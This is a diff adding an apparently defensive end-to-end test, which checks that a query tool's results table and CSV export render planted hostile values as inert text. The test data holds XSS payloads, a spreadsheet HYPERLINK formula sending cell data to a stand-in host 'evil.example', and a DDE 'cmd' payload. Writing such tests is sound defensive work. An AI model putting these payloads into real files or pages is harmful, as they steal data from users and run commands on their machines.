@@ -46,3 +46,51 @@ test('an analyst sorts the rows, hides a column and downloads a CSV that matches
   expect(changes).toEqual([...changes].sort((a, b) => b - a));
   expect(`${changes[0]?.toFixed(2) ?? ''}%`).toBe(firstChange.replace('+', ''));
 });
+
+test('planted hostile values stay text: no script link, and the CSV neutralises the formula', async ({
+  page,
+}) => {
+  const dialogs: string[] = [];
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  await page.goto('/login?redirect=%2Fq%2Fmanager_presentation__c');
+  await signIn(page, 'analyst', 'analyst-demo');
+  await page.getByLabel('Request body (JSON)').fill(
+    JSON.stringify({
+      module: 'manager_presentation__c',
+      filters: {
+        fields: ['name', 'url'],
+        filter: [{ $or: [{ url: { $contains: 'javascript' } }, { url: { $contains: 'data:' } }] }],
+        order_by: 'name:ASC',
+      },
+    }),
+  );
+  await page.getByRole('button', { name: 'Run query' }).click();
+  const table = page.getByRole('table', { name: 'Results' });
+  const script = table.getByRole('cell', { name: 'javascript:alert(document.domain)' });
+  await expect(script).toBeVisible();
+  await expect(table.getByRole('link')).toHaveCount(0);
+
+  const url = page.url();
+  await script.click();
+  await page.keyboard.press('Escape');
+  await expect(page).toHaveURL(url);
+  expect(dialogs).toEqual([]);
+
+  await page.getByRole('button', { name: 'Export CSV' }).click();
+  const downloading = page.waitForEvent('download');
+  await page.getByRole('menuitem', { name: /rows loaded/ }).click();
+  const text = await readFile(await (await downloading).path(), 'utf8');
+  const [header, ...records] = parseRfc4180(text.slice(1));
+  expect(header).toEqual(['name', 'url']);
+  expect(records.map((record) => record[0])).toEqual([
+    '\'=HYPERLINK("https://evil.example/steal?d="&A1,"Q4 2025 Investor Letter")',
+    "'@SUM(1+1)*cmd|' /C calc'!A0",
+  ]);
+  expect(records.map((record) => record[1])).toEqual([
+    'javascript:alert(document.domain)',
+    'data:text/html,<script>alert(1)</script>',
+  ]);
+});
